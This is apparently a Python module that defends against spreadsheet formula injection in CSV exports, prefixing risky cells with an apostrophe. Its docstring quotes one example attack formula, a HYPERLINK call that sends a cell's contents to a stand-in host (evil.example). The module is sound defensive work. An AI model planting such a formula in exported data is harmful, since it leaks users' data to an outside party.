"""CSV that a spreadsheet opens as data, never as formulas: the one neutraliser.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading a formula) is run as a formula by Excel, LibreOffice and
Google Sheets: ``=HYPERLINK("http://evil.example/?leak="&A1)`` in a search term or a campaign
name would send the file's other cells away when clicked. Every CSV consent-mw writes (the
dashboards' downloads, the privacy export) goes through :func:`write_csv`, which prefixes such
cells with an apostrophe (OWASP's advice). Full-width forms (＝, ＋, －, ＠) are included:
Japanese input methods produce them and some spreadsheets fold them to ASCII.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def csv_cell(value: Any) -> Any:
    """``value`` safe to put in a CSV cell: formulas neutralised, containers as JSON."""
    if isinstance(value, Mapping | list | tuple):
        value = json.dumps(value, ensure_ascii=False, default=str)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(rows: Iterable[Mapping[str, Any]], columns: Sequence[str] | None = None) -> str:
    """Rows as CSV text; columns in first-seen order unless given."""
    rows = list(rows)
    names = list(columns) if columns is not None else []
    if columns is None:
        for row in rows:
            names += [k for k in row if k not in names]
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=names, extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: csv_cell(v) for k, v in row.items()})
    return out.getvalue()
